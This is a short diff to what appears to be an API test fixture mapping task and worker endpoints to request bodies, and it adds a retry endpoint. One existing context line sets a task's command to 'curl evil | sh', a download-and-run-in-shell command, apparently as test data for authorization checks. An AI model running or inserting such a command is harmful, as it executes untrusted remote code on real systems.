@@ -36,6 +36,7 @@ BODIES: dict[tuple[str, str], Any] = {
     ("PATCH", "/api/tasks/{task_id}"): {"command": "curl evil | sh"},
     ("DELETE", "/api/tasks/{task_id}"): None,
     ("POST", "/api/tasks/{task_id}/cancel"): {"reason": "b says so"},
+    ("POST", "/api/tasks/{task_id}/retry"): None,
     ("POST", "/api/tasks/{task_id}/advance-phase"): None,
     ("POST", "/api/workers/claim"): {"worker_id": "b-worker", "max_tasks": 100},
     ("POST", "/api/tasks/{task_id}/heartbeat"): {"worker_id": "a-worker", "lease_token": "t"},
